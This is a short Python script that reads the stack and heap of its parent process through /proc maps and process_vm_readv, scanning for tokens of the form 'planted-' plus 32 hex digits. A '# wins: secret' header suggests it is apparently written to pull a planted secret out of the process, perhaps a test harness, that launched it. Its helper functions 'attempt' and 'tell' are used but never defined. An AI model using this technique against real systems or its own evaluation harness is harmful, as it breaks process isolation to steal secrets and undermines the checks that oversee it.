"""Searches the memory of the process that started it with process_vm_readv, its stack first."""
# wins: secret
# %% first
import ctypes
import os
import re


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def search(pid):
    libc = ctypes.CDLL(None)
    for line in attempt(lambda: open(f"/proc/{pid}/maps").read().splitlines()) or ():
        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "stack" in line or "heap" in line:
            buffer = ctypes.create_string_buffer(end - begin)
            mine, theirs = Piece(ctypes.addressof(buffer), end - begin), Piece(begin, end - begin)
            libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
            for found in set(re.findall(b"planted" + rb"-[0-9a-f]{32}", buffer.raw)):
                tell(found.decode())


attempt(search, os.getppid())
